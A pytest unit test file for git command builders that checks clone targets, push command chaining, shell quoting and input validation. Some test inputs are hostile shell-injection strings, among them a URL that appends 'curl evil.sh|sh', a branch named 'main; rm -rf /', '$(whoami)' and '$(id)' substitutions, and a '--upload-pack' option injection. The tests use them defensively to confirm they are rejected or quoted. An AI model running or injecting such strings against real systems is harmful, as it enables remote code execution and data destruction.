"""
Unit tests for git command builders.

Tests verify:
- Clone target derivation from repo path
- Push chain order and quoting
- Input validation rejects shell metacharacters
- Builders are deterministic
- Branch output parsing
"""

import pytest

from git_exec.commands import (
    BRANCH_LIST_COMMAND,
    build_clone_command,
    build_diff_command,
    build_push_command,
    parse_branch_output,
    validate_repository,
)
from git_exec.errors import GitInputError, GitPreflightError


class TestBuildCloneCommand:
    """Tests for build_clone_command"""

    def test_clones_into_workspace_root_without_repo_path(self, make_context):
        """Should clone into '.' when repo path is empty"""
        ctx = make_context(repository_url="https://github.com/user/repo.git")
        assert build_clone_command(ctx) == "git clone https://github.com/user/repo.git ."

    def test_strips_leading_slash_from_repo_path(self, make_context):
        """Should use the repo path relative to the workspace"""
        ctx = make_context(repo_path="/app")
        assert build_clone_command(ctx) == "git clone https://github.com/user/repo.git app"

    def test_keeps_nested_repo_path(self, make_context):
        """Should pass nested relative paths through"""
        ctx = make_context(repo_path="src/service")
        assert build_clone_command(ctx).endswith(" src/service")

    def test_preserves_ssh_url_exactly(self, make_context):
        """Should not rewrite SSH URLs"""
        ctx = make_context(repository_url="git@github.com:JoeDupuis/shenanigans.git")
        assert build_clone_command(ctx) == "git clone git@github.com:JoeDupuis/shenanigans.git ."

    def test_rejects_missing_repository_url(self, make_context):
        """Should refuse to build a clone with no URL"""
        ctx = make_context(repository_url=None)
        with pytest.raises(GitInputError, match="Repository URL cannot be empty"):
            build_clone_command(ctx)

    def test_rejects_url_with_shell_metacharacters(self, make_context):
        """Should refuse URLs that would break out of the command"""
        ctx = make_context(repository_url="https://github.com/user/repo.git;curl evil.sh|sh")
        with pytest.raises(GitInputError):
            build_clone_command(ctx)

    def test_rejects_repo_path_traversal(self, make_context):
        """Should refuse repo paths escaping the workspace"""
        ctx = make_context(repo_path="../etc")
        with pytest.raises(GitInputError, match="cannot contain"):
            build_clone_command(ctx)

    def test_is_deterministic(self, make_context):
        """Should build byte-identical commands for identical inputs"""
        ctx = make_context(repo_path="/app")
        assert build_clone_command(ctx) == build_clone_command(ctx)


class TestBuildPushCommand:
    """Tests for build_push_command"""

    def test_chains_all_steps_in_order(self):
        """Should reset remote, stage, conditionally commit, then push"""
        command = build_push_command(
            "https://github.com/user/repo.git", "main", "Manual push from workspace"
        )

        assert command == (
            "git remote set-url origin 'https://github.com/user/repo.git' && "
            "git add -A && "
            "git diff --cached --quiet || git commit -m 'Manual push from workspace' && "
            "git push origin HEAD:main"
        )

    def test_quotes_commit_message_with_single_quote(self):
        """Should shell-quote commit messages containing quotes"""
        command = build_push_command("https://github.com/user/repo.git", "main", "it's done")
        assert "git commit -m 'it'\"'\"'s done'" in command

    def test_quotes_commit_message_with_substitution(self):
        """Should not let a commit message run commands"""
        command = build_push_command("https://github.com/user/repo.git", "main", "$(whoami)")
        assert "git commit -m '$(whoami)'" in command

    @pytest.mark.parametrize("branch", [
        "main; rm -rf /",
        "-delete",
        ".hidden",
        "feature..x",
        "topic.lock",
        "has space",
        "a$(id)",
    ])
    def test_rejects_unsafe_branch(self, branch):
        """Should reject branch names that are invalid or unsafe"""
        with pytest.raises(GitInputError):
            build_push_command("https://github.com/user/repo.git", branch, "msg")

    @pytest.mark.parametrize("branch", ["main", "feature/login-form", "release_1.2"])
    def test_accepts_valid_branch(self, branch):
        """Should accept ordinary branch names"""
        command = build_push_command("https://github.com/user/repo.git", branch, "msg")
        assert command.endswith(f"git push origin HEAD:{branch}")

    def test_rejects_empty_commit_message(self):
        """Should reject blank commit messages"""
        with pytest.raises(GitInputError, match="Commit message cannot be empty"):
            build_push_command("https://github.com/user/repo.git", "main", "   ")

    def test_input_error_is_preflight_error(self):
        """Should classify validation failures as preflight errors"""
        with pytest.raises(GitPreflightError):
            build_push_command("https://github.com/user/repo.git", "bad branch", "msg")


class TestOtherCommands:
    """Tests for branch listing and diff capture commands"""

    def test_branch_list_command(self):
        assert BRANCH_LIST_COMMAND == "git branch"

    def test_diff_command_marks_untracked_and_uses_context(self):
        """Should add untracked files intent-to-add then diff HEAD with context"""
        assert build_diff_command(10) == "git add -N . && git diff HEAD --unified=10"

    def test_diff_command_context_lines(self):
        assert build_diff_command(3).endswith("--unified=3")


class TestParseBranchOutput:
    """Tests for parse_branch_output"""

    def test_strips_current_marker_and_blank_lines(self):
        """Should return plain branch names"""
        output = "  develop\n* main\n\n  feature/x\n"
        assert parse_branch_output(output) == ["develop", "main", "feature/x"]

    def test_empty_output(self):
        assert parse_branch_output("") == []


class TestValidateRepository:
    """Tests for validate_repository"""

    def test_returns_target(self):
        target = validate_repository("https://github.com/user/repo.git", "/app")
        assert target.url == "https://github.com/user/repo.git"
        assert target.repo_path == "/app"

    @pytest.mark.parametrize("url", [
        "git://example.com/repo.git",
        "file:///srv/repo.git",
        "/srv/git/repo.git",
    ])
    def test_accepts_any_git_url_form(self, url):
        """Should not restrict the scheme; git decides what it can clone"""
        assert validate_repository(url).url == url

    def test_rejects_surrounding_whitespace(self):
        """Should reject instead of trimming, so the checked URL is the one used"""
        with pytest.raises(GitInputError, match="whitespace"):
            validate_repository(" https://github.com/user/repo.git ")

    def test_rejects_option_like_url(self):
        with pytest.raises(GitInputError, match="cannot start with -"):
            validate_repository("--upload-pack=touch")
